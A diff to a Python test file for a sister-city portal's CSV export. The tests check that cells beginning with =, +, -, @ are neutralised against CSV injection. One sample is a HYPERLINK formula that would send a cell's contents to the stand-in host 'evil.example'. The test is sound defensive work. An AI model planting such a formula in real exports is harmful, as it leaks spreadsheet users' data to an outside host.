@@ -12,10 +12,18 @@ from conftest import ROOT
 PAIRS = {r["id"]: r for r in yaml.safe_load((ROOT / "data" / "pairs.yaml").read_text(encoding="utf-8"))}
 
 
+def read_csv(raw: bytes) -> list[dict]:
+    """The CSV's rows as a program that knows the format reads them: a cell that a spreadsheet
+    would run as a formula was written with a single quote before it (OWASP), taken off here."""
+    def cell(text: str) -> str:
+        return text[1:] if text.startswith("'") and text[1:2] in ("=", "+", "-", "@", "\t", "\r") else text
+    return [{k: cell(v) for k, v in row.items()} for row in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))]
+
+
 def test_csv_opens_in_a_spreadsheet_and_matches_the_registry(outputs):
     raw = outputs["data/pairs.csv"]
     assert raw.startswith("\ufeff".encode())  # BOM: spreadsheet programs then read UTF-8 Thai
-    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    rows = read_csv(raw)
     assert len(rows) == len(PAIRS) == 141
     for row in rows:
         r = PAIRS[row["id"]]
@@ -55,3 +63,45 @@ def test_sitemap_lists_every_page_with_alternates(outputs, built):
             assert f"<loc>http://localhost:8000{p.url}</loc>" in xml
     assert xml.count('hreflang="th"') == xml.count('hreflang="en"')
     assert b"Sitemap: " in outputs["robots.txt"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Uozu")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_read_back(project):
+    """CSV injection: text beginning with = + - @ gets a leading single quote in pairs.csv (not
+    in the JSON), numbers stay numbers, and the round trip gives back the registry's text."""
+    from portal.site import build
+    pairs = (project / "data" / "pairs.yaml").read_text(encoding="utf-8")
+    start = pairs.index("- id: chiang-mai-uozu")
+    record = pairs[start:pairs.index("\n- id:", start)]
+    edited = (record.replace("name_en: Uozu\n", f"name_en: '{FORMULAS[0]}'\n")
+                    .replace("parent_en: Toyama Prefecture", f"parent_en: '{FORMULAS[1]}'")
+                    .replace("    alt_names:\n", f"    alt_names:\n    - '{FORMULAS[3]}'\n")
+                    .replace("lon: 137.4", "lon: -137.4"))
+    assert edited.count("name_en: '=") == 1 and "'@SUM" in edited and "lon: -137.4" in edited
+    edited = edited.replace("  notes:\n  - en: ", f"  notes:\n  - en: '{FORMULAS[2]}'\n    th: x\n  - en: ", 1)
+    (project / "data" / "pairs.yaml").write_text(pairs.replace(record, edited), encoding="utf-8")
+    outputs = build(project, write=False).outputs
+    raw = outputs["data/pairs.csv"].decode("utf-8-sig")
+    row = next(r for r in csv.DictReader(io.StringIO(raw)) if r["id"] == "chiang-mai-uozu")
+    assert row["partner_name_en"] == "'" + FORMULAS[0]
+    assert row["partner_parent_en"] == "'" + FORMULAS[1]
+    assert row["alt_names"].startswith("'" + FORMULAS[3])
+    assert row["notes_en"].startswith("'" + FORMULAS[2])
+    assert row["partner_lon"] == "-137.4"                      # a number, not text: no quote
+    for line in raw.splitlines()[1:]:                          # no cell of any row starts a formula
+        for cell in next(csv.reader([line])):
+            assert not cell.startswith(("=", "+", "@")) and not (cell.startswith("-") and not cell[1:2].isdigit()), cell
+    back = next(r for r in read_csv(outputs["data/pairs.csv"]) if r["id"] == "chiang-mai-uozu")
+    assert back["partner_name_en"] == FORMULAS[0] and back["partner_parent_en"] == FORMULAS[1]
+    doc = json.loads(outputs["data/pairs.json"])
+    assert next(p for p in doc["pairs"] if p["id"] == "chiang-mai-uozu")["partner_name_en"] == FORMULAS[0]
+
+
+def test_csv_cell_follows_owasp():
+    from portal.opendata import csv_cell
+    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("Uozu") == "Uozu" and csv_cell(-137.4) == -137.4 and csv_cell(None) == ""
+    assert csv_cell(["=a", "b"]) == "'=a | b"
